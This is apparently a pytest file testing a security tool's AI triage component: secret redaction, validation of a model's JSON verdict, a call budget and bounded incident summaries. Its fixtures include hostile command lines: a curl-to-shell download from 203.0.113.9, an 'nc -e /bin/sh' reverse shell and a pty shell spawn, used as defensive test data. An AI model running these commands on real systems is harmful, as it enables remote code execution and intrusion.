"""AI triage: the plain parts (redaction, the answer's check, the budget,
the summary's bound) and the ai actor against a real chat-completions
server on loopback (tests/hive/model_server.py) in each of its modes:
what the server received is checked for secrets, what came back is
stored as a verdict or as a failure with its reason."""

from __future__ import annotations

import json
import logging
import time

import pytest
import trio

import wire
from actors import Context
from hive import Store
from hive.ai import (
    MARK, Budget, ChatClient, TriageError, Verdict, ai_actor, endpoint, parse_answer, redact, summarize,
    summary_text,
)
from hive.correlate import Incident
from node._config import AiConfig

from tests.hive.model_server import VERDICT, ModelServer, completion

# (text with a secret, the secret, what must stay)
SECRETS = [
    ("mysql -u root -pHunter2pw shop", "Hunter2pw", "mysql -u root -p"),
    ("curl -H 'Authorization: Bearer eyZmF0c2VjcmV0dG9rZW4' https://api.example.com/x", "eyZmF0c2VjcmV0dG9rZW4",
     "https://api.example.com/x"),
    ("aws s3 cp s3://b/k . # key AKIAIOSFODNN7EXAMPLE", "AKIAIOSFODNN7EXAMPLE", "aws s3 cp s3://b/k"),
    ("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCY /usr/bin/aws s3 ls", "wJalrXUtnFEMIK7MDENGbPxRfiCY",
     "/usr/bin/aws s3 ls"),
    ("/opt/agent --token=tok_9f8e7d6c5b4a --port=8443", "tok_9f8e7d6c5b4a", "--port=8443"),
    ("/opt/app --password 'pa ss word' --user bob", "pa ss word", "--user bob"),
    ("psql postgres://bob:Sup3rS3cret@db.internal:5432/sales", "Sup3rS3cret", "db.internal:5432/sales"),
    ('{"db_password": "qwerty123", "host": "db1"}', "qwerty123", '"host": "db1"'),
    ("DB_PASSWORD=abc123xyz API_TOKEN=zzz999 PATH=/usr/bin ./run.sh", "abc123xyz", "PATH=/usr/bin ./run.sh"),
    ("echo '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAq\n-----END RSA PRIVATE KEY-----' > /tmp/k",
     "MIIEowIBAAKCAQEAq", "> /tmp/k"),
    ("sshpass -p letmein99 ssh root@10.0.0.5", "letmein99", "ssh root@10.0.0.5"),
    ("git clone https://x:ghp_abcdefghijklmnopqrstuvwxyz0123@github.com/o/r", "ghp_abcdefghijklmnop", "github.com/o/r"),
    ("export OPENAI_API_KEY=sk-proj-abcdefghijklmnopqrstuvwx", "sk-proj-abcdefghij", "export"),
]


@pytest.mark.parametrize("text, secret, kept", SECRETS)
def test_redaction_hides_the_secret_and_keeps_the_rest(text, secret, kept):
    out = redact(text)
    assert secret not in out and MARK in out
    assert kept in out


@pytest.mark.parametrize("text", ["bash -c 'curl http://203.0.113.9/x.sh | sh'", "mkdir -p /tmp/x",
                                  "ssh -p 22 admin@10.0.0.5", "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
                                  "/usr/sbin/sshd -D", "nc -e /bin/sh 203.0.113.9 4444"])
def test_redaction_leaves_plain_commands_alone(text):
    assert redact(text) == text


def test_the_answer_is_checked_before_anything_is_used():
    verdict, model = parse_answer(completion(json.dumps(VERDICT), model="llama-3.1-8b"))
    assert verdict == Verdict(**VERDICT) and model == "llama-3.1-8b"
    fenced, _ = parse_answer(completion("```json\n" + json.dumps(VERDICT) + "\n```"))
    assert fenced == verdict
    refusals = {
        b"not json at all": "not a chat completion",
        b'{"choices": []}': "no choices",
        completion(""): "no content",
        completion('{"severity": "high"'): "not JSON",
        completion(json.dumps({**VERDICT, "severity": "apocalyptic"})): "severity",
        completion(json.dumps({**VERDICT, "confidence": 1.5})): "confidence",
        completion(json.dumps({**VERDICT, "techniques": ["rm -rf /"]})): "techniques",
        completion(json.dumps({k: v for k, v in VERDICT.items() if k != "explanation"})): "explanation",
        completion(json.dumps({**VERDICT, "run_this": "now"})): "run_this",
    }
    for body, reason in refusals.items():
        with pytest.raises(TriageError, match=reason):
            parse_answer(body)


def test_the_budget_is_a_sliding_hour():
    now = [1000.0]
    budget = Budget(2, clock=lambda: now[0], spent=[now[0] - 3599])
    assert budget.refusal() is None
    budget.spend()
    assert "over budget: 2 calls in the last hour, ai.calls_per_hour is 2" in budget.refusal()
    now[0] += 2  # the call made 3599 s before falls out of the hour
    assert budget.refusal() is None and budget.used == 1


def test_the_endpoint_is_documented():
    assert endpoint("http://127.0.0.1:8080/v1") == "http://127.0.0.1:8080/v1/chat/completions"
    assert endpoint("http://h:11434/v1/") == "http://h:11434/v1/chat/completions"
    assert endpoint("https://api.example.com/v1/chat/completions") == "https://api.example.com/v1/chat/completions"


def incident(n: int = 1, *, opened: float | None = None, alerts: int = 2) -> tuple[Incident, list[wire.Alert]]:
    now = time.time() if opened is None else opened
    iid = f"inc-{n}"
    made = [wire.Alert(
        id=f"{iid}-a{i}", rule_id=f"rule-{i}", title=f"Reverse shell {i}", level="high", agent=f"web{i}",
        tags=["attack.t1059.004"], time=int(now * 1e9) + i, incident=iid,
        events=[wire.Exec(time=int(now * 1e9), pid=4000 + i, ppid=1, filename="/usr/bin/bash", image="/usr/bin/bash",
                          user="www-data",
                          cmdline=f"bash -c 'mysql -u root -pS3cretPass{i} shop; curl -H \"Authorization: Bearer "
                                  f"tokentoken{i}\" http://203.0.113.{i}/x.sh | sh'")])
        for i in range(alerts)]
    inc = Incident(id=iid, title=f"Lateral movement {n}", opened=now, updated=now, level="high",
                   agents=[a.agent for a in made], edges=[("web0", "web1", 22)], alerts=[a.id for a in made])
    return inc, made


@pytest.fixture
def db(tmp_path):
    path = tmp_path / "hive.db"
    Store(path).close()
    return path


def add(db, *incidents):
    store = Store(db)
    try:
        for inc, alerts in incidents:
            store.ingest([], alerts, [inc])
    finally:
        store.close()


def triage(db, incident_id):
    store = Store(db)
    try:
        return store.triage(incident_id)
    finally:
        store.close()


async def wait_for(predicate, timeout=20.0):
    with trio.fail_after(timeout):
        while not predicate():
            await trio.sleep(0.02)


async def run_actor(runtime, db, ai, until, playbook_dirs=None):
    from hive.playbook import DEFAULT_PLAYBOOKS

    ctx = Context(runtime, "ai")
    async with trio.open_nursery() as nursery:
        scope = trio.CancelScope()

        async def run(task_status):
            with scope:
                await ai_actor(ctx, path=db, ai=ai, playbook_dirs=playbook_dirs or [DEFAULT_PLAYBOOKS], poll=0.02,
                               backoff=0.01, task_status=task_status)

        await nursery.start(run)
        try:
            await wait_for(until)
        finally:
            scope.cancel()
    return ctx


def config(server, **kw) -> AiConfig:
    return AiConfig(url=server.url, model="test-model", token="sk-hive-token-123", **{"timeout": 5, "delay": 0, **kw})


async def test_a_new_incident_gets_a_verdict_and_secrets_never_leave(db, runtime, caplog):
    caplog.set_level(logging.INFO, "immune")
    add(db, incident(1))
    with ModelServer("valid") as server:
        await run_actor(runtime, db, config(server), lambda: triage(db, "inc-1"))
    [row] = triage(db, "inc-1")
    assert row.state == "done" and row.requested_by == "auto" and row.calls == 1
    assert row.verdict == VERDICT and row.severity == "high" and row.confidence == 0.9
    assert row.model == "test-model-1"  # as the server named it
    [sent] = server.user_messages()
    for i in range(2):
        assert f"S3cretPass{i}" not in sent and f"tokentoken{i}" not in sent
    summary = json.loads(sent)
    assert [a["title"] for a in summary["alerts"]] == ["Reverse shell 0", "Reverse shell 1"]
    assert "http://203.0.113.1/x.sh | sh" in sent and "mysql -u root -p[REDACTED]" in sent
    assert summary["incident"]["links"] == [{"from": "web0", "to": "web1", "port": 22}]
    assert "reverse-shell" in [p["id"] for p in summary["playbooks"]]
    [request] = server.requests
    assert request["model"] == "test-model" and request["response_format"]["type"] == "json_schema"
    assert server.paths == ["/v1/chat/completions"]
    assert server.headers[0]["Authorization"] == "Bearer sk-hive-token-123"
    line = next(r.getMessage() for r in caplog.records if getattr(r, "event", "") == "ai.verdict")
    assert "incident=inc-1" in line and "severity=high" in line and "confidence=0.9" in line
    assert "techniques=T1059.004,T1105" in line and "model=test-model-1" in line and "seconds=" in line


@pytest.mark.parametrize("mode, reason", [
    ("malformed", "the verdict is not JSON"),
    ("schema", "the verdict does not follow the schema"),
    ("error", "answered HTTP 500"),
])
async def test_a_bad_answer_is_stored_as_a_failure_never_used(db, runtime, mode, reason, caplog):
    add(db, incident(1))
    with ModelServer(mode) as server:
        await run_actor(runtime, db, config(server, retries=1), lambda: triage(db, "inc-1"))
    [row] = triage(db, "inc-1")
    assert row.state == "failed" and reason in row.reason
    assert row.verdict == {} and row.severity == "" and row.confidence == 0
    # Only a failure that may pass is asked again.
    assert row.calls == len(server.requests) == (2 if mode == "error" else 1)
    assert any(getattr(r, "event", "") == "ai.failed" and reason in r.getMessage() for r in caplog.records)


async def test_a_slow_model_times_out(db, runtime):
    add(db, incident(1))
    with ModelServer("slow", delay=3) as server:
        start = time.monotonic()
        await run_actor(runtime, db, config(server, timeout=0.5, retries=0), lambda: triage(db, "inc-1"))
        took = time.monotonic() - start
    [row] = triage(db, "inc-1")
    assert row.state == "failed" and "no answer within 0.5 s" in row.reason
    assert took < 2.5


async def test_a_failure_that_passes_is_retried_with_backoff(db, runtime):
    add(db, incident(1))
    with ModelServer("flaky", failures=2) as server:
        await run_actor(runtime, db, config(server, retries=2), lambda: triage(db, "inc-1"))
    [row] = triage(db, "inc-1")
    assert row.state == "done" and row.calls == 3 and len(server.requests) == 3


async def test_over_budget_no_call_is_made_and_the_reason_is_stored(db, runtime):
    add(db, incident(1), incident(2))
    with ModelServer("valid") as server:
        await run_actor(runtime, db, config(server, calls_per_hour=1),
                        lambda: triage(db, "inc-1") and triage(db, "inc-2"))
        assert len(server.requests) == 1
        rows = {r.incident: r for r in triage(db, "inc-1") + triage(db, "inc-2")}
        assert sorted(r.state for r in rows.values()) == ["done", "failed"]
        refused = next(r for r in rows.values() if r.state == "failed")
        assert refused.calls == 0 and "over budget: 1 calls in the last hour" in refused.reason
        # A restarted actor remembers what the hour has spent.
        add(db, incident(3))
        await run_actor(runtime, db, config(server, calls_per_hour=1), lambda: triage(db, "inc-3"))
        assert len(server.requests) == 1 and "over budget" in triage(db, "inc-3")[0].reason


async def test_a_verdict_recommending_an_unknown_playbook_is_refused(db, runtime):
    add(db, incident(1))
    with ModelServer("valid", verdict={**VERDICT, "playbook": "wipe-everything"}) as server:
        await run_actor(runtime, db, config(server), lambda: triage(db, "inc-1"))
    [row] = triage(db, "inc-1")
    assert row.state == "failed" and "recommends playbook 'wipe-everything'" in row.reason and row.verdict == {}


async def test_requests_first_new_incidents_once_settled_old_ones_only_on_request(db, runtime):
    add(db, incident(1), incident(2), incident(3))
    store = Store(db)
    # inc-3 changed two hours ago: before the actor's horizon.
    store.db.execute("UPDATE incidents SET updated=? WHERE id='inc-3'", (time.time() - 7200,))
    store.request_triage("inc-1", "operator:alice")
    with pytest.raises(Exception, match="no incident 'nope'"):
        store.request_triage("nope", "cli")
    store.close()
    with ModelServer("valid") as server:
        # New incidents must settle for 60 s: only the request is done.
        await run_actor(runtime, db, config(server, delay=60), lambda: triage(db, "inc-1"))
        await trio.sleep(0.2)
        assert triage(db, "inc-1")[0].requested_by == "operator:alice" and triage(db, "inc-2") == []
        await run_actor(runtime, db, config(server, delay=0), lambda: triage(db, "inc-2"))
        await trio.sleep(0.2)
    assert triage(db, "inc-2")[0].requested_by == "auto"
    assert len(triage(db, "inc-1")) == 1 and triage(db, "inc-3") == [] and len(server.requests) == 2


def test_arguments_are_redacted_as_one_command_line():
    inc, alerts = incident(1, alerts=1)
    alerts[0].events = [wire.Exec(time=1, pid=5, filename="/usr/bin/mysql",
                                  argv=["mysql", "-u", "root", "-pArgvSecret1", "--password", "ArgvSecret2"])]
    text = summary_text(summarize(inc, alerts))
    assert "ArgvSecret" not in text and "mysql -u root -p[REDACTED] --password [REDACTED]" in text


def test_a_huge_incident_makes_a_bounded_summary():
    inc, alerts = incident(1, alerts=40)
    for a in alerts:
        a.events = [wire.Exec(time=1, pid=i, cmdline="x" * 5000 + " --token=abcdef123456") for i in range(16)]
    summary = summarize(inc, alerts)
    assert len(summary["alerts"]) == 20 and summary["alerts_not_shown"] == 20
    text = summary_text(summary, 16 * 1024)
    assert len(text.encode()) <= 16 * 1024 and "abcdef123456" not in text
    assert json.loads(text)["incident"]["id"] == "inc-1"
    # At the least bound the config allows, strings are cut too and it still fits, still JSON.
    smallest = summary_text(summarize(inc, alerts), 4 * 1024)
    assert len(smallest.encode()) <= 4 * 1024 and json.loads(smallest)["alerts"][0]["events"]
    assert "abcdef123456" not in smallest


async def test_without_a_url_the_client_is_never_made(tmp_path):
    from node._config import load_config
    from node._trees import hive_children

    (tmp_path / "c.toml").write_text('[ai]\nmodel = "m"\ntoken = "t"\n')
    cfg = load_config(tmp_path / "c.toml", node_data=str(tmp_path / "data"))
    assert "ai" not in [c.name for c in hive_children(cfg)]


async def test_the_client_alone_refuses_over_budget_without_connecting():
    with ModelServer("valid") as server:
        budget = Budget(1, clock=time.time, spent=[time.time()])
        client = ChatClient(server.url, model="m", budget=budget)
        out = await client.ask("{}")
        await client.aclose()
    assert out.verdict is None and out.calls == 0 and server.connections == 0
